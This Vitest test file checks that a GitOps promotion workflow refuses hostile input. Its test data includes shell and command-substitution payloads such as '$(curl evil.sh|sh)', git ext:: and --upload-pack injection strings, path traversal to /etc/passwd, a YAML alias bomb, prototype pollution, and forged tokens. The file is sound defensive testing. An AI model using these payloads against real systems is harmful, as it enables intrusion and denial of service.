// Bad input and abuse: hostile promotion inputs, hostile promenade.yaml files, manifests that do not hold what
// the pipeline says, and decisions that must be refused. Every case gets a clear error, commits nothing (the
// branch tip is unchanged) and leaves no promotion running.
import { randomUUID } from 'node:crypto';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { validatePromotionInput } from '../../src/config/promotion-input.js';
import { seedDeployment } from '../../src/bootstrap/seed-layout.js';
import type { PromotionStatus } from '../../src/workflows/promotion-status.js';
import { approveSignal, decideUpdate, laneViewQuery, rejectSignal, statusQuery } from '../../src/workflows/messages.js';
import { laneWorkflowId } from '../../src/workflows/workflow-ids.js';
import { createPromotionEnvironment, type PromotionEnvironment } from '../support/promotion-environment.js';
import { recordFigures } from './figures.js';
import { outcomeOf, remoteTip, until } from './support.js';

const GATE = 'approval: { approvers: [alice, bob], required: 1, timeout: 10m }';
const PIPELINE = `apps:
  myapp:
    environments:
      - { name: dev, ${GATE}, soak: 0s }
  expiring:
    environments:
      - { name: dev, path: dev/myapp, application: myapp-dev, approval: { approvers: [alice], timeout: 3s }, soak: 0s }
  no-container:
    environments: [{ name: dev, approval: false, soak: 0s }]
  no-manifest:
    environments: [{ name: dev, approval: false, soak: 0s }]
  not-yaml:
    environments: [{ name: dev, approval: false, soak: 0s }]
  symlinked:
    environments: [{ name: dev, approval: false, soak: 0s }]
  laned:
    environments:
      - { name: dev, path: dev/myapp, application: myapp-dev, ${GATE}, soak: 0s }
`;

let env: PromotionEnvironment;
const results: Array<{ group: string; name: string; ok: boolean }> = [];
const started = Date.now();
const promotionIds: string[] = [];

beforeAll(async () => {
  env = await createPromotionEnvironment({
    pipeline: PIPELINE,
    beforeApplications: async (e) => {
      const put = async (path: string, content: string) => {
        await mkdir(join(e.root, 'work', path, '..'), { recursive: true });
        await writeFile(join(e.root, 'work', path), content);
      };
      await put('dev/no-container/deployment.yaml', seedDeployment('sidecar', 'dev', 1, 'nginx:1.19'));
      await put('dev/no-manifest/README.md', 'the manifest went elsewhere\n');
      await put('dev/not-yaml/deployment.yaml', 'apiVersion: apps/v1\nkind: [Deployment\n  {{ template }}\n');
      await mkdir(join(e.root, 'work', 'dev', 'symlinked'), { recursive: true });
      await symlink('/etc/hostname', join(e.root, 'work', 'dev', 'symlinked', 'deployment.yaml'));
      await e.git('add', 'dev');
      await e.git('commit', '--quiet', '-m', 'Broken manifests');
      await e.git('push', '--quiet', 'origin', 'HEAD:main');
    },
  });
  await env.startWorker();
}, 180_000);
afterAll(async () => {
  const passed = results.filter((r) => r.ok).length;
  recordFigures({
    scenario: '6 Bad input and abuse',
    promotions: promotionIds.length,
    faults: Object.fromEntries(['input', 'promenade.yaml', 'manifest', 'decision', 'lane message'].map((g) => [`${g} cases`, results.filter((r) => r.group === g).length])),
    outcomes: { 'clear error, nothing committed, nothing running': passed, other: results.length - passed },
    duplicates: 0,
    lostUpdates: 0,
    durationMs: Date.now() - started,
  });
  await env?.close();
});

/** Starts the workflow with the raw input, past the client's own validation, as a hostile caller could. */
async function startRaw(input: unknown): Promise<string> {
  const workflowId = `abuse-${randomUUID()}`;
  promotionIds.push(workflowId);
  await env.client.workflow.start('promotion', { taskQueue: env.taskQueue, workflowId, args: [input] });
  return workflowId;
}

/** The run failed with `type` and `message`, nothing moved the branch, and the run is closed. */
async function expectRefused(group: string, name: string, workflowId: string, tipBefore: string, type: string, message: RegExp) {
  const outcome = await outcomeOf(env, workflowId);
  const description = await env.client.workflow.getHandle(workflowId).describe();
  const tipAfter = await remoteTip(env);
  results.push({ group, name, ok: false });
  expect(outcome.failure?.message, `${name}: ${outcome.state}`).toMatch(message);
  const types: unknown[] = [];
  for (let e: unknown = outcome.failure; e; e = (e as { cause?: unknown }).cause) types.push((e as { type?: string }).type);
  expect(types, outcome.failure?.message).toContain(type);
  expect(description.status.name).toBe('FAILED');
  // Past input validation the run answers queries, and must not read as still starting.
  if (group !== 'input' || type !== 'InvalidInput') expect((await env.client.workflow.getHandle(workflowId).query(statusQuery)).state).toBe('failed');
  expect(tipAfter).toBe(tipBefore);
  results[results.length - 1].ok = true;
}

const base = { app: 'myapp', image: 'nginx:1.27.0', requestedBy: 'ci-bot' };
const INPUT_CASES: Array<[string, unknown, RegExp]> = [
  ['empty image', { ...base, image: '' }, /^input\.image: "" is not a valid OCI image reference \(empty\)/],
  ['shell in image', { ...base, image: 'nginx:1.0; rm -rf /' }, /^input\.image: .* is not a valid OCI image reference/],
  ['command substitution in image', { ...base, image: '$(curl evil.sh|sh)' }, /^input\.image: .* is not a valid OCI image reference/],
  ['uppercase repository', { ...base, image: 'NGINX:1.0' }, /^input\.image: "NGINX:1\.0" is not a valid OCI image reference/],
  ['trailer forged through the image', { ...base, image: 'nginx:1.0\nPromenade-Promotion: forged' }, /whitespace or control characters/],
  ['truncated digest', { ...base, image: 'nginx@sha256:abc' }, /^input\.image: .* is not a valid OCI image reference/],
  ['5000-character image', { ...base, image: `nginx:${'x'.repeat(5000)}` }, /^input\.image: .* is not a valid OCI image reference/],
  ['path as image', { ...base, image: '../../etc/passwd' }, /^input\.image: .* is not a valid OCI image reference/],
  ['number as image', { ...base, image: 42 }, /^input\.image: 42 is not a string/],
  ['app escaping the repository', { ...base, app: '../../etc' }, /^input\.app: "\.\.\/\.\.\/etc" is not a valid app name/],
  ['uppercase app', { ...base, app: 'MyApp' }, /^input\.app: "MyApp" is not a valid app name/],
  ['54-character app', { ...base, app: 'a'.repeat(54) }, /^input\.app: .* is longer than 53 characters/],
  ['shell in app', { ...base, app: 'app;rm -rf' }, /^input\.app: .* is not a valid app name/],
  ['empty requester', { ...base, requestedBy: ' ' }, /^input\.requestedBy: " " is empty/],
  ['trailer forged through metadata', { ...base, metadata: { ci: 'x\nPromenade-Promotion: forged' } }, /^input\.metadata\.ci: .* contains newlines or control characters/],
  ['metadata key with spaces', { ...base, metadata: { 'Bad Key!': 'x' } }, /^input\.metadata\.Bad Key!: .* is not a valid metadata key/],
  ['unknown field', { ...base, force: true }, /^input\.force: true is not a known field/],
  ['__proto__ field', JSON.parse('{"app":"myapp","image":"nginx:1.27.0","requestedBy":"ci-bot","__proto__":{"admin":true}}'), /^input\.__proto__: .* is not a known field/],
  ['credentials in the repository URL', { ...base, repository: 'https://deploy:s3cret-pw@git.example.com/gitops.git' }, /^input\.repository: "https:\/\/(\*\*\*|deploy:\*\*\*|REDACTED|[^"]*)@git\.example\.com\/gitops\.git"/],
  ['ext:: transport as repository', { ...base, repository: 'ext::sh -c touch% /tmp/pwned' }, /^input\.repository: /],
  ['null input', null, /^input: null is not an object/],
  ['requester ID token that is not a JWT', { ...base, requesterIdToken: 'hello; rm -rf /' }, /^input\.requesterIdToken: .* is not an ID token/],
  ['20 KB requester ID token', { ...base, requesterIdToken: `a.${'b'.repeat(20_000)}.c` }, /^input\.requesterIdToken: .* is not an ID token/],
];

const PIPELINE_CASES: Array<[string, string, RegExp]> = [
  ['apps as a list', 'apps: [myapp]\n', /apps: \["myapp"\] is not a mapping/],
  ['misspelt key', 'apps:\n  myapp:\n    enviroments: [dev]\n', /apps\.myapp\.enviroments: is not a known key/],
  ['environments as a number', 'apps: { myapp: { environments: 42 } }\n', /apps\.myapp\.environments: 42 is not a list of environments/],
  ['300 KB document', `apps: { myapp: {} }\n#${'x'.repeat(300_000)}\n`, /is larger than 262144 bytes/],
  ['200 levels of nesting', `apps: { myapp: { environments: ${'['.repeat(200)}${']'.repeat(200)} } }\n`, /is nested deeper than 16 levels/],
  [
    'YAML alias bomb',
    `a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n${'bcdefg'.split('').map((c, i) => `${c}: &${c} [${Array(9).fill(`*${'abcdefg'[i]}`).join(',')}]`).join('\n')}\napps: { myapp: { environments: *g } }\n`,
    /anchors and aliases are not allowed/,
  ],
  ['path escaping the repository', 'apps: { myapp: { environments: [{ name: dev, path: ../../outside }] } }\n', /path: "\.\.\/\.\.\/outside" escapes the repository/],
  ['absolute path', 'apps: { myapp: { environments: [{ name: dev, path: /etc }] } }\n', /path: "\/etc" is absolute/],
  ['manifest file escaping the repository', 'apps: { myapp: { environments: [{ name: dev, image: { container: myapp, file: ../../../etc/passwd } }] } }\n', /image\.file: .* escapes the repository/],
  ['environment name escaping', 'apps: { myapp: { environments: ["../prod"] } }\n', /"\.\.\/prod" is not a valid environment name/],
  ['hostile Argo CD application name', 'apps: { myapp: { environments: [{ name: dev, application: "x/../y" }] } }\n', /application: "x\/\.\.\/y" is not a valid Argo CD name/],
  ['broken YAML', 'apps: { myapp: [\n', /YAML error/],
  ['more approvals required than approvers', 'apps: { myapp: { environments: [{ name: prod, approval: { approvers: [alice], required: 3 } }] } }\n', /required: 3 is more than the 1 listed approver/],
  ['timeout that is not a duration', 'apps: { myapp: { environments: [{ name: prod, approval: { approvers: [alice], timeout: forever } }] } }\n', /timeout: "forever" is not a duration/],
  ['duplicate environment', 'apps: { myapp: { environments: [dev, dev] } }\n', /"dev" is a duplicate environment name/],
  ['identity requirement that is neither asserted nor verified', 'apps: { myapp: { environments: [{ name: prod, approval: { identity: trusted } }] } }\n', /identity: "trusted" is not "asserted" or "verified"/],
  // This worker has no identity section: a gate no decision could ever pass is refused at start instead of waiting.
  ['verified gate on a worker that verifies no identities', 'apps: { myapp: { environments: [dev, { name: prod, approval: { identity: verified } }] } }\n', /the gate before prod requires verified identities, but the worker has no identity section/],
  ['git option as branch', 'apps: { myapp: { branch: "--upload-pack=touch /tmp/pwned" } }\n', /branch: .* is not a valid branch name/],
  ['empty file', '', /\(root\): null is not a mapping/],
  ['js tag', 'apps: !!js/function "function(){}"\n', /is not a mapping of app name/],
];

const MANIFEST_CASES: Array<[string, string, RegExp]> = [
  ['manifest without the expected container', 'no-container', /deployment\.yaml: no container "no-container" \(found: sidecar\)/],
  ['manifest file missing', 'no-manifest', /deployment\.yaml: no such file on the branch/],
  ['manifest that is not YAML', 'not-yaml', /deployment\.yaml: not valid YAML/],
  ['manifest that is a symlink out of the repository', 'symlinked', /deployment\.yaml: resolves outside the repository/],
];

describe('bad input and abuse', () => {
  describe('hostile promotion input', () => {
    it.each(INPUT_CASES)('%s', async (name, input, message) => {
      // Refused at the edge by the client ...
      expect(() => validatePromotionInput(input)).toThrow(message);
      // ... and by the workflow itself when a caller skips the client.
      const tip = await remoteTip(env);
      await expectRefused('input', name, await startRaw(input), tip, 'InvalidInput', message);
    });

    it('a repository the worker does not serve (its credentials must not follow the caller)', async () => {
      const tip = await remoteTip(env);
      const id = await startRaw({ ...base, repository: 'https://attacker.example.com/gitops.git' });
      await expectRefused('input', 'repository the worker does not serve', id, tip, 'InvalidInput', /input\.repository is not one of the repositories this worker serves/);
    });

    it('an app promenade.yaml does not list', async () => {
      const tip = await remoteTip(env);
      await expectRefused('input', 'unlisted app', await startRaw({ ...base, app: 'ghost' }), tip, 'InvalidConfig', /ghost/);
    });
  });

  describe('hostile promenade.yaml', () => {
    afterAll(async () => {
      await env.commitFile('promenade.yaml', PIPELINE, 'Restore the pipeline');
    });
    it.each(PIPELINE_CASES)('%s', async (name, text, message) => {
      await env.commitFile('promenade.yaml', text, `Hostile pipeline: ${name}`);
      const tip = await remoteTip(env);
      await expectRefused('promenade.yaml', name, await startRaw(base), tip, 'InvalidConfig', message);
    });
  });

  describe('manifests that do not hold what the pipeline says', () => {
    it.each(MANIFEST_CASES)('%s', async (name, app, message) => {
      const tip = await remoteTip(env);
      await expectRefused('manifest', name, await startRaw({ ...base, app }), tip, 'InvalidConfig', message);
    });
  });

  describe('decisions that must be refused', () => {
    let workflowId: string;
    let tip: string;
    const status = () => env.client.workflow.getHandle(workflowId).query(statusQuery);
    beforeAll(async () => {
      workflowId = await startRaw({ ...base, requestedBy: 'alice' });
      await env.waitForState(workflowId, ['awaiting-approval']);
      tip = await remoteTip(env);
    });

    // Shapes and text rules (src/config/decision.ts) hold on every channel: the same cases go by signal and update.
    const MALFORMED: Array<[string, Record<string, unknown>, RegExp]> = [
      ['multi-line comment', { approver: 'bob', comment: 'fine\nApproved-by: mallory' }, /comment must be a single line without control characters/],
      ['control character in the comment', { approver: 'bob', comment: 'ok\u001b[1A\u001b[2Kapproved' }, /comment must be a single line without control characters/],
      ['control character in the approver', { approver: 'bob\r' }, /approver must be a single line without control characters/],
      ['oversized comment (1,001 characters)', { approver: 'bob', comment: 'x'.repeat(1001) }, /comment must be at most 1000 characters/],
      ['oversized approver (129 characters)', { approver: 'b'.repeat(129) }, /approver must be at most 128 characters/],
      ['decision for another gate', { approver: 'bob', gate: 'staging' }, /decision is for gate staging, but the open gate is approval/],
    ];
    const SIGNALS: Array<[string, unknown, RegExp]> = [
      ['null decision', null, /a decision must be a JSON object/],
      ['empty object', {}, /approver must be a string/],
      ['approver as a number', { approver: 42 }, /approver must be a string/],
      ['blank approver', { approver: '   ' }, /approver must not be empty/],
      ['decision as a bare string', 'bob', /a decision must be a JSON object/],
      ['decision as an array', ['bob'], /a decision must be a JSON object/],
      ['comment as an object', { approver: 'bob', comment: { evil: true } }, /comment must be a string/],
      ['approver not listed', { approver: 'mallory' }, /mallory is not an allowed approver/],
      ['self-approval', { approver: 'alice' }, /the requester may not approve their own promotion/],
      ...MALFORMED,
      ['credential as a string', { approver: 'bob', credential: 'let me in' }, /credential must be an object/],
      ['credential of an unknown kind', { approver: 'bob', credential: { kind: 'password', secret: 'hunter2' } }, /credential\.kind must be "ssh"/],
      ['8 KB SSH signature', { approver: 'bob', credential: { kind: 'ssh', signature: `U1NIU0lH${'A'.repeat(8000)}`, signedAt: '2026-11-30T21:12:30Z' } }, /credential\.signature must be at most 4096/],
      ['SSH signature with a made-up time', { approver: 'bob', credential: { kind: 'ssh', signature: `U1NIU0lH${'A'.repeat(92)}`, signedAt: 'now' } }, /credential\.signedAt must be a UTC time/],
      ['ID token that is not a JWT', { approver: 'bob', credential: { kind: 'oidc', token: 'hello' } }, /credential\.token must be an ID token/],
      // This worker has no identity section: no credential can count, however well-formed.
      ['forged SSH signature', { approver: 'bob', credential: { kind: 'ssh', signature: `U1NIU0lH${'A'.repeat(92)}`, signedAt: '2026-11-30T21:12:30Z' } }, /this worker verifies no identities/],
      ['unsigned ID token (alg none)', { approver: 'bob', credential: { kind: 'oidc', token: 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJib2IifQ.' } }, /this worker verifies no identities/],
    ];
    it.each(SIGNALS)('signal: %s', async (name, decision, reason) => {
      const before = await status();
      results.push({ group: 'decision', name, ok: false });
      await env.client.workflow.getHandle(workflowId).signal(approveSignal, decision as never);
      const after = await until('the refusal', async () => {
        const s = await status();
        return (s.refusedCount ?? 0) > (before.refusedCount ?? 0) && s;
      });
      expect(after.refused.at(-1)?.reason).toMatch(reason);
      expect(after.approvals).toEqual([]);
      expect(after.state).toBe('awaiting-approval');
      expect(await remoteTip(env)).toBe(tip);
      results[results.length - 1].ok = true;
    });

    const UPDATES: Array<[string, unknown, RegExp]> = [
      ['decision that is neither approve nor reject', { decision: 'maybe', approver: 'bob' }, /decision must be "approve" or "reject"/],
      ['approver not listed', { decision: 'approve', approver: 'mallory' }, /mallory is not an allowed approver/],
      ['self-approval', { decision: 'approve', approver: 'alice' }, /the requester may not approve their own promotion/],
      ...MALFORMED.map(([name, decision, reason]): [string, unknown, RegExp] => [name, { decision: 'approve', ...decision }, reason]),
    ];
    it.each(UPDATES)('update: %s is refused to the caller', async (name, request, reason) => {
      results.push({ group: 'decision', name: `update: ${name}`, ok: false });
      const refusal = await env.client.workflow.getHandle(workflowId).executeUpdate(decideUpdate, { args: [request as never] }).then(
        () => undefined,
        (err: Error) => err,
      );
      // The validator's own words reach the caller as the update failure's cause.
      expect((refusal?.cause as Error | undefined)?.message).toMatch(reason);
      expect((await status()).approvals).toEqual([]);
      expect(await remoteTip(env)).toBe(tip);
      results[results.length - 1].ok = true;
    });

    it('approval after rejection: refused, the promotion stays rejected', async () => {
      const handle = env.client.workflow.getHandle(workflowId);
      await handle.signal(rejectSignal, { approver: 'bob', comment: 'not today' });
      const outcome = await outcomeOf(env, workflowId);
      expect(outcome.state).toBe('rejected');
      results.push({ group: 'decision', name: 'approval after rejection', ok: false });
      await expect(handle.signal(approveSignal, { approver: 'bob' })).rejects.toThrow(/workflow execution already completed/i);
      await expect(handle.executeUpdate(decideUpdate, { args: [{ decision: 'approve', approver: 'bob' }] })).rejects.toThrow(/workflow execution already completed/i);
      expect((await handle.describe()).status.name).toBe('COMPLETED');
      expect(await remoteTip(env)).toBe(tip);
      results[results.length - 1].ok = true;
    });

    it('approval after expiry: refused, the promotion stays expired', async () => {
      const expiring = await startRaw({ ...base, app: 'expiring' });
      const handle = env.client.workflow.getHandle(expiring);
      const before = await remoteTip(env);
      const outcome = await outcomeOf(env, expiring);
      expect(outcome.state).toBe('expired');
      expect((outcome.result?.status as PromotionStatus).stages.find((s) => s.stage.includes('approval'))?.failure).toBe('expired');
      results.push({ group: 'decision', name: 'approval after expiry', ok: false });
      await expect(handle.signal(approveSignal, { approver: 'alice' })).rejects.toThrow(/workflow execution already completed/i);
      expect((await handle.describe()).status.name).toBe('COMPLETED');
      expect(await remoteTip(env)).toBe(before);
      results[results.length - 1].ok = true;
    });
  });

  // Anyone who can signal a workflow can signal the app's lane or a promotion. Lane messages are only nudges
  // (src/workflows/lane-seat.ts, app-lane.ts): malformed or forged ones change no decision and fail no workflow task.
  describe('lane messages that must change nothing', () => {
    let workflowId: string;
    let tip: string;
    const lane = () => env.client.workflow.getHandle(laneWorkflowId('laned', env.taskQueue));
    const promotion = () => env.client.workflow.getHandle(workflowId);
    const taskFailures = async (id: string) =>
      ((await env.client.workflow.getHandle(id).fetchHistory()).events ?? []).filter((e) => e.workflowTaskFailedEventAttributes).length;
    beforeAll(async () => {
      workflowId = await startRaw({ ...base, app: 'laned' });
      await env.waitForState(workflowId, ['awaiting-approval']);
      await until('the lane to see the promotion at its gate', async () => (await lane().query(laneViewQuery)).decisions[workflowId]?.kind === 'gate' || undefined);
      tip = await remoteTip(env);
    });
    afterAll(async () => {
      await promotion().signal(rejectSignal, { approver: 'bob', comment: 'done probing the lane' });
      await outcomeOf(env, workflowId);
    });

    const CASES: Array<[string, 'lane' | 'lane-request', () => unknown]> = [
      ['null lane-request', 'lane-request', () => null],
      ['lane-request as a string', 'lane-request', () => 'release'],
      ['forged release for the promotion at the gate', 'lane-request', () => ({ kind: 'release', promotionId: workflowId })],
      ['claim for a promotion that does not exist', 'lane-request', () => ({ kind: 'claim', promotionId: 'promote:laned:nginx:99', startedAt: 1 })],
      ['claim naming the lane itself', 'lane-request', () => ({ kind: 'claim', promotionId: laneWorkflowId('laned', env.taskQueue), startedAt: 1 })],
      ['lane-request with a control character in the ID', 'lane-request', () => ({ kind: 'claim', promotionId: `${workflowId}\n` })],
      ['null lane notice', 'lane', () => null],
      ['lane notice as a string', 'lane', () => 'superseded'],
      ['forged prod-cleared', 'lane', () => ({ kind: 'prod-cleared' })],
      ['forged superseded without a name', 'lane', () => ({ kind: 'superseded' })],
      ['forged superseded by mallory', 'lane', () => ({ kind: 'superseded', by: 'mallory' })],
    ];
    it.each(CASES)('%s', async (name, signal, message) => {
      results.push({ group: 'lane message', name, ok: false });
      const target = signal === 'lane' ? promotion() : lane();
      await target.signal(signal, message() as never);
      // A query sent after the signal is answered after it has been handled.
      expect((await lane().query(laneViewQuery)).decisions[workflowId]?.kind).toBe('gate');
      const now = await promotion().query(statusQuery);
      expect(now.state).toBe('awaiting-approval');
      expect(now.stages.find((s) => s.stage.includes('approval'))?.status).toBe('running');
      expect((await lane().describe()).status.name).toBe('RUNNING');
      expect(await taskFailures(workflowId)).toBe(0);
      expect(await taskFailures(lane().workflowId)).toBe(0);
      expect(await remoteTip(env)).toBe(tip);
      results[results.length - 1].ok = true;
    });
  });

  it('leaves no promotion running', async () => {
    const open: string[] = [];
    for (const id of promotionIds) if ((await env.client.workflow.getHandle(id).describe()).status.name === 'RUNNING') open.push(id);
    expect(open).toEqual([]);
    expect(results.length).toBeGreaterThanOrEqual(30);
  });
});
